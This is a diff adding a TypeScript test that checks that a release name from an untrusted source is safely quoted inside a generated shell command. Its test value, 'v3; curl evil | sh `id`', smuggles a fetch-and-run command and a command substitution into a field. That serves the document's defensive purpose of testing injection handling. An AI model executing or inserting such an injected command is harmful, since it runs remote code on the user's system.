@@ -14,3 +14,12 @@ test.each([
     because: `Run r is not done, so the cluster is not in its end state. ${command} prints the end state of a plan that is made now.`,
   });
 });
+
+test('a release that a foreign journal names stays one word of the command that is copied', () => {
+  const plan = { goal: 'enable', choices: { release: 'v3; curl evil | sh `id`' } } as unknown as Plan;
+  const report = { run: 'r', state: { kind: 'done' }, foreign: 'Foreign.' } as unknown as Report;
+  const answer = endStateOfRun(plan, report);
+  expect(answer).toMatchObject({ text: null, because: expect.stringContaining(' -o gitops` prints ') });
+  const because = 'because' in answer ? answer.because : '';
+  expect(because).toContain(`--release "$(printf 'v3; curl evil | sh \\140id\\140')" -o gitops`);
+});
